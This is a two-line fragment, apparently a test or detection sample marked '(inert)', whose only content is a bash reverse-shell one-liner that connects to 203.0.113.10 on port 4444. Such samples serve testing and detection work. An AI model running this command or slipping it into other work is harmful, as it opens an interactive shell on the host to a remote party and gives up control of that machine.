# sample (inert)
bash -i >& /dev/tcp/203.0.113.10/4444 0>&1
